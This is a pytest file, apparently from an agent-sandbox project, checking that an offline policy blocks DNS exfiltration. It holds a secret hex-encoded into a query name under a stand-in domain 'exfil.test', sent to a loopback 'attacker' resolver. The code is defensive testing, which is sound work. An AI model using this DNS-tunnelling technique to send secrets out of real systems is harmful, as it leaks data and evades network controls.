"""DNS exfiltration: a secret encoded into query names, sent to a resolver the agent picks or
through the system resolver, with a policy that allows no network at all."""

from __future__ import annotations

import socket
import sys
from pathlib import Path

import pytest

from tests.escapes.conftest import loopback_udp, native, sandboxed

pytestmark = pytest.mark.kernel
PROBE = Path(__file__).parent / "net_probe.py"
OFFLINE = 'agent a {\n  default permit\n  deny! net/* reason: "offline"\n}\n'
LEAKED_NAME = "544f50534543524554.exfil.test"  # "TOPSECRET" in hex, as a tunnel would send it


@pytest.fixture
def listener():
    """A DNS server of the attacker's on the host's loopback, recording what arrives."""
    with loopback_udp(timeout=0.5) as sock:
        yield sock


def received(sock: socket.socket) -> list[bytes]:
    got = []
    while True:
        try:
            got.append(sock.recv(512))
        except (TimeoutError, socket.timeout):
            return got


def test_secret_never_leaves_in_a_dns_query(listener, tmp_path):
    """Natively the query reaches the attacker's server; offline, the direct send and the resolver
    lookup are both denied by the policy and audited, and nothing arrives."""
    port = str(listener.getsockname()[1])
    argv = [sys.executable, PROBE, "dns", "127.0.0.1", port, LEAKED_NAME]
    assert native([*argv, "nolookup"]).lines() == {"send": "ok"}  # the host has no upstream to ask
    assert [b"544f50534543524554" in packet for packet in received(listener)] == [True]
    run = sandboxed(OFFLINE, argv, tmp_path)
    assert received(listener) == []
    assert run.lines() == {"send": "errno:1", "lookup": "gaierror:-3"}, run.explain()
    decided = {(r["tool"], r["args"].get("host"), r["reason_code"]) for r in run.denials("net/")}
    assert ("net/send", "127.0.0.1", "FPL_STRICT_DENY") in decided, run.explain()
    assert ("net/dns", LEAKED_NAME, "FPL_STRICT_DENY") in decided, run.explain()
